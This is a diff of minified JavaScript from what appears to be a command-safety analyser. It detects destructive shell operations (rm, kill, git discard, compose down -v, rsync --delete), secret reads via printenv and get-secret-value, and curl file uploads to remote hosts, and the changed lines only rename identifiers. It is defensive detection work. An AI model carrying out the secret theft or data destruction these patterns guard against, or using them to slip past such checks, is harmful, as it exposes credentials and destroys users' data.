@@ -3168,7 +3168,7 @@ n)?[o]:[]),...[...r.matchAll(nr.tested_ending)].flatMap(([,n,o])=>(n??o).split("
 \uFFFC"))}var af=t=>[...t.matchAll(nr.test_clause)].flatMap(([e])=>{let s=e.split(/\band\b|&&/).filter(n=>!X(n,"negative-tests"));return(X(e,"process-tests")?[...s.
 join(" ").matchAll(nr.process_name)]:[]).map(([,n])=>n)}),Pl=t=>t.match(/\w+/g)??[];function lf(t){let e=[...t.matchAll(nr.loop_variable)],s=new Set(e.flatMap(r=>Pl(
 r.slice(1).join(" "))));for(let[,r,n]of t.matchAll(/(\w+)\s*=(?![=>])([^\n;]{1,200})/g))!X(n,"age-tests")&&Pl(n).some(o=>s.has(o))&&s.add(r);return s}var{codeWords:Yo,forms:Il}=S,wx=4e4,cf=512,Xo=class{constructor(e,s,r=""){this.source=e;this.context=s;this.mayHideInput=rp(r,this.input,e),this.chosen=nf(r)?of(
-r):void 0,this.processNames=af(r),this.signs={has:_e(n=>X(r,n))}}source;context;invocations=[];options=new Map;imitations=new Map;postponed=[];isRepeating=!1;listeners=new Map;modules=new Set;openedDatabases=[];temporaryTables=new Set;problem;folder;remainingSteps=wx;mayHideInput;chosen;processNames;signs;imitates(e){
+r):void 0,this.processNames=af(r),this.signs={has:Se(n=>X(r,n))}}source;context;invocations=[];options=new Map;imitations=new Map;postponed=[];isRepeating=!1;listeners=new Map;modules=new Set;openedDatabases=[];temporaryTables=new Set;problem;folder;remainingSteps=wx;mayHideInput;chosen;processNames;signs;imitates(e){
 return this.imitations.has(e)||this.signs.has(`stubbed-${e}`)}get isMocked(){return this.signs.has("imitation")&&!this.signs.has("database")}get isInMemory(){let e=(...r)=>r.
 some(n=>this.signs.has(n));return this.openedDatabases.length>0&&this.openedDatabases.every(Boolean)&&!e("driver","attaches","own-connection","database-address")?
 !0:e("in-memory")&&!e("database","driver","attaches","several-connections")}isLibrary(e){let s=[...this.modules].find(r=>e===r||e.startsWith(`${r}.`));return s!==
@@ -3176,29 +3176,29 @@ void 0&&!s.startsWith(".")&&!Yo.standard.has(s.split(/[./]/)[0])}get choosesProc
 has("by-user")}get isEmulated(){let s=Object.entries(this.input.environment).filter(([o])=>o.endsWith("_EMULATOR_HOST")).some(([,{text:o}])=>/^(?:localhost|127\.\d+\.\d+\.\d+):\d+$/.
 test(o)),r=[...this.modules].filter(o=>this.isLibrary(o));return new Set(r.map(o=>o.replace("@","").split(/[/.]/)[0])).size===1&&(s||this.signs.has("emulated"))}enter(e){
 this.folder=/^[\w./~-]/.test(e)&&!this.signs.has("own-folder")?e:void 0}get input(){return this.context.input??Co}recordPrint(e,s=" ",r=`
-`){for(let{value:o}of v.parts(e)){let i=o.kind==="content"?o:z.secretContent(o);i&&this.recordSecrets(i)}if(!this.context.onPrint)return;let n=e.map(o=>v.flat([
+`){for(let{value:o}of v.parts(e)){let i=o.kind==="content"?o:G.secretContent(o);i&&this.recordSecrets(i)}if(!this.context.onPrint)return;let n=e.map(o=>v.flat([
 o]).flatMap(v.texts).map(ql).map(a=>this.markUnread(a)).join(`
 `));this.context.onPrint(n.join(s)+r)}recordSecrets(e){for(let s of e.from)s.program==="printenv"&&s.args.length===0&&this.signs.has("secret-names")&&e.variable!==
 void 0?this.addInvocation("printenv",["SECRET_KEY"]):(e.variable!==void 0||s.args[1]?.text==="get-secret-value")&&this.add(s)}markUnread(e){return this.mayHideInput&&
 e==="\uFFFC"?"\uFFFC\uFFFB":e}step(e=1){return this.remainingSteps-=e,this.remainingSteps<0&&this.fail("too-much","the code takes too many steps to read"),this.
-problem===void 0}fail(e,s){this.problem??={kind:e,detail:s}}addInvocation(e,s,r={}){let o=Yo.deleting_programs.has(e)&&this.chosen===void 0?z.content(s.filter(d=>typeof d==
+problem===void 0}fail(e,s){this.problem??={kind:e,detail:s}}addInvocation(e,s,r={}){let o=Yo.deleting_programs.has(e)&&this.chosen===void 0?G.content(s.filter(d=>typeof d==
 "object"))?.from:void 0,a=o?.length===1&&o[0].program==="find"?{wrappers:["xargs"],input:{kind:"pipe",from:o}}:{},l=this.createInvocation(e,s,{...a,...r}),[c]=l.
 args;return e==="sql"&&c?.text.endsWith("-some")&&this.signs.has("production")&&(c.text=c.text.replace("some","production")),this.mayHideInput&&Yo.destructive_programs.
 has(e)&&(l.args=l.args.map(d=>({...d,text:this.markUnread(d.text)}))),this.add(l),l}createInvocation(e,s,r={}){let n=s.flatMap(i=>Qo(i,Yo.deleting_programs.has(
 e))),o=e==="sql"?"sql":this.source;return{...Et(e,n),language:o,...r}}readFile(e=I){if(e.kind==="content"||e.kind==="made")return e;let s=v.texts(e),r=s.every(n=>X(
 n,"stdin-names"))?Ys(this.input):void 0;return r||(this.addInvocation("cat",[e],{redirects:Rl("read",Qo(e,!1))}),w.content([],s))}recordWrite(e=I,s,r=!1){let n=s&&
-z.content([s]);if(!n&&v.texts(e).every(u=>Il.below_new_folder.test(u)))return;let o=this.signs.has("encrypts")||(s===void 0?!this.signs.has("writes"):N.known(s)&&
+G.content([s]);if(!n&&v.texts(e).every(u=>Il.below_new_folder.test(u)))return;let o=this.signs.has("encrypts")||(s===void 0?!this.signs.has("writes"):O.known(s)&&
 !n),a=(s===void 0||v.firstText(s)==="")&&v.texts(e).every(u=>/\.(?:sqlite3?|db)$/.test(u));if(o&&!r&&(kx(e)||a)){this.addInvocation("truncate",["-s","0",e]);return}
 this.addInvocation("printf",["%s",s??I],{redirects:Rl(r?"append":"write",Qo(e,!1)),...this.createInput(n)});let[l,c]=[v.firstText(e),v.firstText(s)];(!l.includes(
-"\uFFFC")||l.startsWith("/tmp/"))&&!c.includes("\uFFFC")&&this.context.onWrite?.(l,c)}createInput(e){if(!e)return{};let s=Rl("read",xe(e.files));return{input:{kind:"\
-pipe",from:[...s.length>0?[this.createInvocation("cat",e.files,{redirects:s})]:[],...e.from]}}}runShellLine(e){let s=e&&z.content([e]),r=e?.kind==="content"&&e.
+"\uFFFC")||l.startsWith("/tmp/"))&&!c.includes("\uFFFC")&&this.context.onWrite?.(l,c)}createInput(e){if(!e)return{};let s=Rl("read",$e(e.files));return{input:{kind:"\
+pipe",from:[...s.length>0?[this.createInvocation("cat",e.files,{redirects:s})]:[],...e.from]}}}runShellLine(e){let s=e&&G.content([e]),r=e?.kind==="content"&&e.
 of?.every(n=>Il.known_command.test(n));return s&&!r?w.content([this.addInvocation("sh",[],this.createInput(s))]):w.merged(v.texts(e).map(n=>this.readCommand(this.
 markUnread(df(n)))))}runProgram(e){return this.readCommand(df(e.flatMap(v.texts).map(vx).join(" ")))}readCommand(e){if(!this.step(8))return w.content([]);let{invocations:s,
 problem:r,output:n}=this.context.readCommand(e,this.folder);this.problem??=r;for(let o of s)this.add(o);return{kind:"content",files:[],from:s,of:n?[n.trimEnd()]:
 void 0}}add(e){this.invocations.length>=cf?this.fail("too-much",`the code does more than ${cf} things`):this.invocations.push(e)}},kx=t=>v.texts(t).some(e=>/[*\u{FFF9}][^/]*$/u.
 test(e)),ql=t=>t.replaceAll(ns,"\uFFFC"),df=t=>Il.deletes.test(t)?t.replaceAll(ns,"*").replace(/'([^'\s]*\*)'/g,"$1"):ql(t);function Qo(t,e){if(t===void 0)return[];
-if(typeof t=="string")return[R(t)];if(t.kind==="content"&&t.files.length>0)return xe(t.files.map(r=>`@${r}`));if(t.kind==="list")return t.items.flatMap(r=>Qo(r,
-e));if(t.kind==="map")return e?[]:xe([...t.entries.keys()]);let s=N.glob(t)||t.kind==="content"&&v.firstText(t).includes("*");return v.texts(t).map(r=>e&&r.includes(
+if(typeof t=="string")return[R(t)];if(t.kind==="content"&&t.files.length>0)return $e(t.files.map(r=>`@${r}`));if(t.kind==="list")return t.items.flatMap(r=>Qo(r,
+e));if(t.kind==="map")return e?[]:$e([...t.entries.keys()]);let s=O.glob(t)||t.kind==="content"&&v.firstText(t).includes("*");return v.texts(t).map(r=>e&&r.includes(
 ns)?R(r.replaceAll(ns,"*"),!0):R(ql(r),s))}var Rl=(t,e)=>e.map(s=>({kind:t,path:s})),vx=t=>/^[\w@%+=:,./-]+$/.test(t)?t:`'${t.replaceAll("'","'\\''")}'`;var Ol=65536,xx={evaluate:ut,call:Pt,interpret:Qp};function Jo(t,e,s){let r=new Xo(t,s,e.slice(0,Ol)),n=t==="php"?e.replace(/<\?(?:php\b|=)/g,";").replace(/(?<=\w)\\(?=[A-Z])/g,
 "::"):e;return e.length>Ol?r.fail("too-long",`the ${t} code is longer than ${Ol} characters`):t==="sql"?Js(e,r):t==="awk"?ef(e,r):$x(vp(t),n,r),{invocations:r.invocations,
 ...we({problem:r.problem||void 0})}}function $x(t,e,s){let r=Pr(e,t.lexer);if(r.length>=qo){s.fail("too-much",`the code has more than ${qo} words`);return}(s.source!==
@@ -3214,11 +3214,11 @@ server","udevd","login","firefox","chrome","google-chrome","supervisord","php-fp
 t)||/[\s/]|\\\d/.test(t))return[];let e=t.replace(/\)(?:[*+?]|\{\d*,?\d*\})+/g,")");if((e.match(/[*+?{]/g)??[]).length>Ex)return[];let s=$s(e);return Sx.filter(
 r=>{let n=s?.exec(r);if(!n)return!1;let o=n[0].length*2;return o>r.length||n.index===0&&o===r.length})}var Zo="*";function vf(t,e){let s=t.filter(i=>i.program===
 "kill"&&ue(i).includes("\uFFFC")&&!xf(i)),n=s.some(({input:i})=>i===void 0||i.kind==="text")?e:e.filter(({captured:i})=>i),o=[...t.flatMap(Ax),...s.some(i=>Ox(i,
-e))?[Zo]:[],...s.flatMap(({input:i})=>i?.kind==="file"?ei(i.path.text):[]),...s.flatMap(i=>mf(de(i))),...s.length>0?mf(n):[]];return xe([...new Set(o)])}function xf({
-program:t,args:e}){let{flags:s,options:r}=$e(t,e),o=[...r.filter(({flag:i})=>/^(-s|--signal)$/.test(i)).map(({value:i})=>i.text),...s.filter(i=>/^-(\d+|[A-Z]{3,})$/.
+e))?[Zo]:[],...s.flatMap(({input:i})=>i?.kind==="file"?ei(i.path.text):[]),...s.flatMap(i=>mf(de(i))),...s.length>0?mf(n):[]];return $e([...new Set(o)])}function xf({
+program:t,args:e}){let{flags:s,options:r}=_e(t,e),o=[...r.filter(({flag:i})=>/^(-s|--signal)$/.test(i)).map(({value:i})=>i.text),...s.filter(i=>/^-(\d+|[A-Z]{3,})$/.
 test(i)).map(i=>i.slice(1))];return o.length>0&&o.every(i=>i==="0")}function Ax({program:t,path:e,args:s}){if(e.startsWith("/etc/init.d/")&&s[0]?.text==="stop")
 return[t];if(/^(nginx|httpd|apachectl|apache2ctl)$/.test(t))return s.some(({text:n})=>/^(stop|quit|graceful-stop)$/.test(n))?[t.replace(/ctl$/,"2")]:[];if(!yf.killers.
-has(t))return[];let r=$e(t,s);return t==="fuser"?Rx(r):t==="start-stop-daemon"?Px(r):xf({program:t,args:s})?[]:$f(t,r)}function $f(t,{flags:e,options:s,operands:r}){
+has(t))return[];let r=_e(t,s);return t==="fuser"?Rx(r):t==="start-stop-daemon"?Px(r):xf({program:t,args:s})?[]:$f(t,r)}function $f(t,{flags:e,options:s,operands:r}){
 let n=t!=="killall"&&pe(e,"-f"),o=/^p(kill|grep)$/.test(t)&&!pe(e,"-x","--exact");return[...r.flatMap(({text:i})=>[...Wl(i,n),...o?/^\w$/.test(i)?[Zo]:kf(i):[]]),
 ...s.flatMap(({value:i})=>ei(i.text))]}var Tx=200;function Wl(t,e){return t.slice(0,Tx).split("|").flatMap(r=>{let n=r.replace(/\[(.)\]/g,"$1").replace(/\\[b<>]|[\^$()\\]|^\.\*|\.\*$/g,
 ""),[o="",...i]=n.trim().split(/\s+/);if(e&&i.length>0&&!o.endsWith(":")&&!as.daemon_path.test(o))return[];let a=o.replace(/:$/,"").replace(/^.*\//,"");return a===
@@ -3226,13 +3226,13 @@ let n=t!=="killall"&&pe(e,"-f"),o=/^p(kill|grep)$/.test(t)&&!pe(e,"-x","--exact"
 "--stop")?e.flatMap(({flag:s,value:r})=>/^(-n|--name|-x|--exec)$/.test(s)?Wl(r.text,!1):ei(r.text)):[]}function Rx({flags:t,operands:e}){return pe(t,"-k","--kil\
 l")?pe(t,"-m","-M","-c","--mount")?[Zo]:e.flatMap(({text:s})=>/^\/+[\w.-]*\/*$|^~\/*$/.test(s)?[Zo]:wf.get(s.replace(/\/(tcp|udp|sctp)$/,""))??[]):[]}function mf(t){
 let e=t.some(({program:s})=>s==="ps");return t.flatMap(s=>Ix(s,e))}function Ix({program:t,args:e,redirects:s,filter:r},n){switch(t){case"pgrep":case"pidof":return $f(
-t,$e(t,e));case"cat":case"head":case":":return[...e,...s.map(({path:o})=>o)].flatMap(({text:o})=>ei(o));case"ps":return gf(e,"-C");case"lsof":return[...gf(e,"-c"),
-...e.flatMap(({text:o})=>wf.get(as.lsof_port.exec(o)?.[1]??"")??[])];case"systemctl":{let[o,...i]=$e(t,e).operands.map(({text:a})=>a);return i.flatMap(a=>/^(.*)\.service$/.
+t,_e(t,e));case"cat":case"head":case":":return[...e,...s.map(({path:o})=>o)].flatMap(({text:o})=>ei(o));case"ps":return gf(e,"-C");case"lsof":return[...gf(e,"-c"),
+...e.flatMap(({text:o})=>wf.get(as.lsof_port.exec(o)?.[1]??"")??[])];case"systemctl":{let[o,...i]=_e(t,e).operands.map(({text:a})=>a);return i.flatMap(a=>/^(.*)\.service$/.
 exec(a)?.[1]??(o==="show"?a:[]))}default:return n?/^[gmn]?awk$/.test(t)?Cf(r?.code??"").flatMap(hf):/^(e|f)?grep$|^rg$/.test(t)?Sf(e).flatMap(hf):[]:[]}}var hf=t=>[
 ...Wl(t,!0),...kf(t)];function gf(t,e){return t.flatMap(({text:s},r)=>s===e?t.slice(r+1,r+2).flatMap(n=>n.text.split(",")):s.startsWith(e)?s.slice(e.length).split(
 ","):[])}var Ml=2e3;function _f({program:t,args:e,filter:s}){let r=e.map(n=>n.text).join(" ");if(r.length>Ml)return!1;if(/^(([efg]|gg)?(grep|rg)|ag|ack|ugrep)$/.
 test(t)){let n=Sf(e);return n.length>0&&n.every(Dl)}if(/^g?sed$/.test(t)){let[,n,o,,i]=as.matching_lines.exec(r)??[];return as.one_line.test(r)||Dl(n??o??i??"")}
-return/^[gmn]?awk$/.test(t)?qx(s?.code??""):t==="head"||t==="tail"?as.few_lines.test(r):t==="fzf"}function Sf(t){let{flags:e,options:s,operands:r}=$e("grep",t);
+return/^[gmn]?awk$/.test(t)?qx(s?.code??""):t==="head"||t==="tail"?as.few_lines.test(r):t==="fzf"}function Sf(t){let{flags:e,options:s,operands:r}=_e("grep",t);
 if(pe(e,"-v","--invert-match"))return[];let n=s.filter(({flag:o})=>o==="-e"||o==="--regexp").map(({value:o})=>o);return(n.length>0?n:r.slice(0,1)).map(({text:o})=>o)}
 function Dl(t){return/\)(?:[*?]|\{0|\{,)/.test(t)?!1:t.split(/\\?\|/).every(e=>{let s=e.replace(/\[\[:\w+:\]\]|\[([^\]^])\]/g,"$1").replace(/\[[^\]]*\]|\\[a-zA-Z<>]/g,
 " ").replace(/\\?.(?:[*?]|\\\?|\\?\{(?:0|,)[^}]*\})/g," ").replace(/\\?[(){}^$+]|\\/g,"");return s.includes("\uFFFC")||/\w\w/.test(s)&&!as.word_everywhere.test(
@@ -3241,12 +3241,12 @@ as.awk_comparison.test(t)}function Cf(t){return t.length>Ml?[]:[...t.matchAll(/(
 void 0?r??n??[]:[])}function Ox(t,e){let s=de(t);return s.some(Af)?Ef(s).length>0:s.some(r=>jl(r).length>0&&_f(r))?!1:Nx(e)}function Nx(t){let e=t.filter(n=>yf.
 keepers.has(n.program)||bf(n)),s=new Set(e.flatMap(de)),r=n=>n.captured||n.language!=="shell"||bf(n)||s.has(n);return Ef(t).some(r)}var bf=({redirects:t})=>t.some(
 ({kind:e})=>e!=="read");function Ef(t){let e=t.filter(Af),s=t.filter(n=>jl(n).length>0&&_f(n)),r=new Set(s.flatMap(jl));return e.filter(n=>!r.has(n))}var jl=t=>t.
-filter?.from??de(t),Af=({program:t,args:e})=>t==="ps"&&(e.some(({text:s})=>as.ps_all.test(s))||!e.some(({text:s})=>as.ps_choice.test(s)));gt();function j(t,{short:e="",long:s=[],optional:r="",permuted:n}){let o=[],i=[],a=[...t],l=(u,p)=>o.push({name:u,...we({value:p})}),c=({text:u,glob:p})=>{let[,f="",
+filter?.from??de(t),Af=({program:t,args:e})=>t==="ps"&&(e.some(({text:s})=>as.ps_all.test(s))||!e.some(({text:s})=>as.ps_choice.test(s)));gt();function W(t,{short:e="",long:s=[],optional:r="",permuted:n}){let o=[],i=[],a=[...t],l=(u,p)=>o.push({name:u,...we({value:p})}),c=({text:u,glob:p})=>{let[,f="",
 m]=/^--([^=]*)(?:=([\s\S]*))?$/.exec(u),h=$o(f,s);m===void 0?l(h,s.includes(h)?a.shift():void 0):l(h,{text:m,glob:p})},d=({text:u,glob:p})=>{for(let f=1;f<u.length;f+=
 1){let m=u[f],h=u.slice(f+1),g=r.includes(m)&&(h!==""||a[0]?.text.startsWith("-")!==!1);if(!e.includes(m)||g)l(m);else{l(m,h===""?a.shift():{text:h,glob:p});break}}};
 for(;a.length>0&&a[0].text!=="--";){let{text:u}=a[0],p=u.length>1&&u.startsWith("-");if(!p&&!n)break;let f=a.shift();p?u.startsWith("--")?c(f):u.length>2&&s.includes(
-u.slice(1))?l(u.slice(1),a.shift()):d(f):i.push(f)}return i.push(...a.slice(a[0]?.text==="--"?1:0)),{options:o,operands:i}}var G=(t,...e)=>t.some(({name:s})=>e.
-includes(s)),W=(t,...e)=>t.flatMap(({name:s,value:r})=>e.includes(s)&&r?[r]:[]);function ti(t,e){let s=({text:n},o)=>n===";"||n==="+"&&/\{\}|\u{FFFC}/u.test(t[o-
+u.slice(1))?l(u.slice(1),a.shift()):d(f):i.push(f)}return i.push(...a.slice(a[0]?.text==="--"?1:0)),{options:o,operands:i}}var K=(t,...e)=>t.some(({name:s})=>e.
+includes(s)),M=(t,...e)=>t.flatMap(({name:s,value:r})=>e.includes(s)&&r?[r]:[]);function ti(t,e){let s=({text:n},o)=>n===";"||n==="+"&&/\{\}|\u{FFFC}/u.test(t[o-
 1].text),r=t.findIndex((n,o)=>o>e&&s(n,o));return r===-1?t.length:r}var{forms:Rt}=S,Lx=200;function Fl(t,e,s){if(e.program==="find")return si(e.args);if(t.length===0||s.length>Lx)return t;let n=s.slice(0,Math.max(0,s.indexOf(e))).
 filter(({program:o})=>o==="mv").flatMap(({args:o})=>{let i=o.filter(({text:l})=>!l.startsWith("-")),a=i.at(-1);return a&&i.length>1&&t.some(({text:l})=>Tf(a.text,
 l)||Tf(l,a.text))?i.slice(0,-1):[]});return[...t,...n]}var Tf=(t,e)=>`${t}/`.startsWith(`${e.replace(/\/\*?$/,"")}/`),Dx=new Set(S.getopt.find.long.map(t=>`-${t}`)),
@@ -3254,11 +3254,11 @@ Pf=()=>({names:[],empty:!1,byProperty:!1,deletes:!1,acts:!1});function Vl(t){let
 -1);l.acts||=Rt.find_action.test(a);let c=()=>{l.deletes=!0,n>0&&o&&(l.names=["*"])};a==="("?n+=1:a===")"?n=Math.max(0,n-1):/^(-o|-or|,)$/.test(a)?(o=!0,n===0&&
 s.push(Pf())):Rt.find_command.test(a)?(Rt.deleting_program.test(t[i+1]?.text??"")&&c(),i=ti(t,i)):a==="-delete"?c():a==="!"||a==="-not"?r=!0:Rt.find_by_name.test(
 a)?(r||l.names.push(t[i+1]?.text??"*"),r=!1,i+=1):a==="-fprintf"?i+=2:Dx.has(a)||/^-newer[aBcm][aBcmt]$/.test(a)?(l.byProperty||=Rt.find_by_property.test(a),r=!1,
-i+=1):a==="-empty"?l.empty=!0:!a.startsWith("-")&&s.every(({names:d})=>d.length===0)&&e.push(a.replace(/\/$/,""))}return{starts:e.length>0?e:["."],branches:s}}var kn=_e(
+i+=1):a==="-empty"?l.empty=!0:!a.startsWith("-")&&s.every(({names:d})=>d.length===0)&&e.push(a.replace(/\/$/,""))}return{starts:e.length>0?e:["."],branches:s}}var kn=Se(
 t=>{let{starts:e,branches:s}=Vl(t),r=s.filter(({deletes:a})=>a),n=s.some(({acts:a})=>a)?s.filter(({acts:a})=>a):s,o=n.flatMap(a=>a.names),i={...n.at(-1),names:o,
 empty:n.some(({empty:a})=>a)};return e.flatMap(a=>(r.length>0?r:[i]).flatMap(l=>jx(l,a)).map(l=>R(`${a}/${l.replace(/^\.?\/?\*\/|^\.\//,"")}`,!0)))},new WeakMap);
 function jx({names:t,empty:e,byProperty:s},r){return t.length>0?t:e?["tmp"]:[s&&Rt.temp_root.test(r)?"\uFFFC":"*"]}var si=t=>Vl(t).branches.some(({deletes:e})=>e)?
-kn(t):[];function Wx({args:t}){let{options:e,operands:s}=j(t,{short:"e",long:["extension"],permuted:!0}),[r]=W(e,"e","extension"),n=r?`*.${r.text}`:s[0]?.text??
+kn(t):[];function Wx({args:t}){let{options:e,operands:s}=W(t,{short:"e",long:["extension"],permuted:!0}),[r]=M(e,"e","extension"),n=r?`*.${r.text}`:s[0]?.text??
 "*",[,o]=/^\^?\(([\w.\\|]+)\)\$?$/.exec(n)??[];return(o?.replaceAll("\\","").split("|")??[/^[.^$]*$/.test(n)?"*":n]).map(a=>R(`${s[1]?.text??"."}/${a}`,!0))}function or(t,e){
 let s=t.wrappers.findLast(a=>Rt.supplying_wrapper.test(a)),r=s&&Mx(s,t,e);if(!r)return Rf(t,e);let n=Fx(t,r)??Vx(r);if(n.length===0)return t.args;let o=s==="fin\
 d"?Vl(r.args).starts.map(a=>`${a}/`):[""],i=({text:a})=>o.some(l=>a.includes(l+"\uFFFC"));return t.args.some(i)?t.args.flatMap(a=>{if(!i(a)||a.text.startsWith("\
@@ -3282,7 +3282,7 @@ length),glob:f.glob}):h&&h!=="none"&&n[h].push(f)});for(let{flag:f,value:m}of s)
 test(t.text)?{...t,text:t.text.slice(t.text.indexOf(":")+1)}:t;function Bx(t,e){let s=t.flatMap(({flag:n,value:o})=>{let i=/^(-d|-F|-b|--data.*|--json|--form|--url-query|-H|--header)$/.
 test(n),a=/(?:^@|=@|=<)([^;,]*)/.exec(o.text)?.[1];return i&&a!==void 0?[{...o,text:a}]:[]}),r=e.flatMap(n=>{if(n.text.startsWith("file://"))return[n];let[,o]=/^(?:[\w.-]*:?[@=])?@(.*)/s.
 exec(n.text)??[];return o===void 0?[]:[{...n,text:o}]});return[...s,...r]}var{forms:Wt,pathWords:If}=S,ni=R(".");function zx(t,e){let[s]=t.args;if(s?.text!=="checkout"&&s?.text!=="restore")return[];let[r,...n]=de(t),o=t.args.every(({text:m})=>Wt.
-restoring_word.test(m)),i=r&&n.length===0&&Wt.list_of_deleted.test(ue(r));if(o&&i&&t.wrappers.includes("xargs"))return[];let a=or(t,e),{flags:l,options:c,operands:d}=$e(
+restoring_word.test(m)),i=r&&n.length===0&&Wt.list_of_deleted.test(ue(r));if(o&&i&&t.wrappers.includes("xargs"))return[];let a=or(t,e),{flags:l,options:c,operands:d}=_e(
 "git",a);if(pe(l,"-p","--patch")&&t.input===void 0)return[];let u=s.text==="restore";if(u&&pe(l,"--staged","-S")&&!pe(l,"--worktree","-W"))return[];if(c.some(({
 flag:m})=>m==="--pathspec-from-file"))return[ni];let p=d.slice(1);if(!u&&pe(l,"-b","-B","-t","--track","--orphan"))return[];let f=pe(l,"--theirs","--ours");return(u?
 p:Gx(p,a)).flatMap(m=>f&&!Ul(m)&&!/^:|\u{FFFC}/u.test(m.text)?[]:m.text==="\uFFFC"?Qx(e)?[ni]:[]:[Kx(m)])}function Gx(t,e){let s=e.findIndex(({text:a})=>a==="--");
@@ -3291,14 +3291,14 @@ test(r?.text??"")?t:n}function Kx({text:t,glob:e}){if(/^:(\([^)]*exclude[^)]*\)|
 "");return s===""?ni:R(s,e)}function Ul({text:t,glob:e}){if(e||/\/$|[*?[]/.test(t))return!0;let[,s="",r=t]=/^(?:(.*)\/)?([^/]*)$/.exec(t)??[];return/^[a-z][a-z0-9_-]*$/.
 test(r)&&!If.files.has(r)&&!Wt.file_folder.test(s)||/^\.{0,2}$/.test(r)}function Yx({program:t,args:e}){if(t!=="git"||e.some(({text:n})=>n==="--"))return!1;let[
 s="",...r]=e.map(({text:n})=>n);return/^(ls-files|status)$/.test(s)?r.every(n=>n.startsWith("-")):s==="diff"&&r.some(n=>n==="--name-only"||n==="--name-status")}
-var Qx=_e(t=>{let e=s=>t.some(r=>de(r).includes(s));return t.some(s=>Yx(s)&&(s.captured||s.redirects.length>0||e(s)))},new WeakMap);function qf(t,e){let s=(r,n,o)=>n.
+var Qx=Se(t=>{let e=s=>t.some(r=>de(r).includes(s));return t.some(s=>Yx(s)&&(s.captured||s.redirects.length>0||e(s)))},new WeakMap);function qf(t,e){let s=(r,n,o)=>n.
 length>0?[Et(r,n,[],o)]:[];return[...s("end-process",vf(t,e)),...t.flatMap(r=>{let{program:n,folder:o}=r;if(Xx(r,e))return s("compose-elsewhere",[R("down")],o);
 if(n==="rsync")return s("sync-away",Jx(r),o);if(n!=="git")return[];let i=zx(r,e),a=i.filter(c=>!Ul(c)),l=i.filter(Ul);return[...s("git-discard",l,o),...s("git-d\
-iscard-file",a,o)]})]}function Xx(t,e){let{program:s,args:r,folder:n,environment:o,wrappers:i}=t;if(!Wt.compose_program.test(s))return!1;let{flags:a,operands:l}=$e(
+iscard-file",a,o)]})]}function Xx(t,e){let{program:s,args:r,folder:n,environment:o,wrappers:i}=t;if(!Wt.compose_program.test(s))return!1;let{flags:a,operands:l}=_e(
 s,r),[c,d]=l.map(({text:h})=>h),u=c==="compose"?d:c;if(!/^(?:down|rm)$/.test(u??"")||!pe(a,"-v","--volumes","--rmi"))return!1;let p=ue(t).replace(Wt.unique_project,
 ""),f=Object.entries(o).some(([h,{text:g}])=>Wt.compose_variable.test(h)&&!Wt.unique_setting.test(`${h}=${g}`)),m=/^[/~]|^\.\./.test(n?.text??"");return f||e.some(
 h=>Wt.context_change.test(ue(h)))||!i.every(h=>Wt.timing_wrapper.test(h))||Wt.compose_place.test(p)||m&&!`${n?.text}/`.startsWith(`${wn}/`)}function Jx({args:t}){
-let{flags:e,operands:s}=$e("rsync",t);return e.some(n=>/^--del(?!ay|ete-m)/.test(n))&&s.length>1?s.slice(-1).filter(({text:n})=>ri(n)):[]}var Nf=require("node:path");var Zx=1e3,e0=1e4,Of=1024*1024,t0=20,Or=class{files=new Map;forgotten=new Set;characters=0;version=0;write(e,s,r,n=[]){let o=oi(e,r);if(o===void 0)return;this.version+=
+let{flags:e,operands:s}=_e("rsync",t);return e.some(n=>/^--del(?!ay|ete-m)/.test(n))&&s.length>1?s.slice(-1).filter(({text:n})=>ri(n)):[]}var Nf=require("node:path");var Zx=1e3,e0=1e4,Of=1024*1024,t0=20,Or=class{files=new Map;forgotten=new Set;characters=0;version=0;write(e,s,r,n=[]){let o=oi(e,r);if(o===void 0)return;this.version+=
 1;let i=o.includes("\uFFFC")?this.files.get(o)?.text??"":"";this.forget(o),this.forgotten.delete(o);let a=i.length+s.length>Of?"\uFFFC\uFFFB":i+s;this.files.set(
 o,{text:a,from:n}),this.characters+=a.length;for(let l of this.files.keys()){if(this.files.size<=Zx&&this.characters<=Of)break;this.forget(l),this.forgotten.add(
 l),this.forgotten.size>e0&&this.forgotten.delete(this.forgotten.values().next().value)}}append(e,s,r,n=[]){let o=this.written(e,r),i=e.includes("\uFFFC")?s:(o?.
@@ -3309,7 +3309,7 @@ return Hl.local_host.test(e)?"local":Hl.drop_host.test(e)?"drop":"remote"}var{fe
 ({text:l})=>!l.startsWith("-")):[],a=o&&i&&this.has(o.text,n)?[i]:[];for(let{text:l}of[...o0(e),...a]){let c=Lf(l,n);c!==void 0&&this.paths.add(c),this.paths.size>
 n0&&this.paths.delete(this.paths.values().next().value)}}has(e,s){let r=Lf(e,s);return r!==void 0&&this.paths.has(r)}},Nr=({program:t})=>Df.has(t),jf=({program:t})=>Df.
 has(t)||s0.has(t);function o0(t){let e=t.redirects.filter(({kind:n})=>n!=="read").map(({path:n})=>n);if(!Nr(t))return de(t).some(Nr)?t.program==="tee"?t.args.filter(
-({text:n})=>!n.startsWith("-")):e:[];let{operands:s}=$e(t.program,t.args),r=n=>!Ie(n)||(ii(n)??"local")!=="local";return s.some(r)?[...e,...dn(t)]:[]}var Lf=(t,e)=>t.
+({text:n})=>!n.startsWith("-")):e:[];let{operands:s}=_e(t.program,t.args),r=n=>!Ie(n)||(ii(n)??"local")!=="local";return s.some(r)?[...e,...dn(t)]:[]}var Lf=(t,e)=>t.
 includes("\uFFFC")?void 0:oi(t,e?.text);ar();var{forms:Y}=S,Mf=t=>t.program==="git"&&f0(t)||p0(t)||l0(t)||u0(t)||c0(t)||d0(t)||i0(t)||a0(t);function i0({program:t,invocation:e,context:{invocations:s}}){let{
 client:r,needs:n=[],wrappers:o,environment:i}=e;if(!/^(?:kubectl|helm)$/.test(t)||r!==void 0||o.length>0||"KUBECONFIG"in i)return!1;if(Y.local_cluster.test(ue(e)))
 return!0;let a=n.find(c=>Y.cluster_creation.test(ue(c))),l=c=>Y.cluster_tool.test(c.program)&&!Y.other_cluster.test(ue(c));return a!==void 0&&s.slice(s.indexOf(
@@ -3333,7 +3333,7 @@ some(({text:l})=>Y.git_step.test(l));return t==="git"&&r!==void 0&&n.some(a=>o(a
 creations.get(t);if(!r)return!1;let[n,o]=Wf(e),[,i]=new RegExp(r.destroys).exec(n)??[],a=i!==void 0&&Y.new_folder.test(i),l=u=>Y.near_wrapper.test(u)||a&&Y.code_wrapper.
 test(u);if(i===void 0||!e.wrappers.every(l))return!1;let c=Ff(i)||Lr(i)||Y.temporary_file.test(i),d=new RegExp(r.makes);return s.slice(0,Math.max(0,s.indexOf(e))).
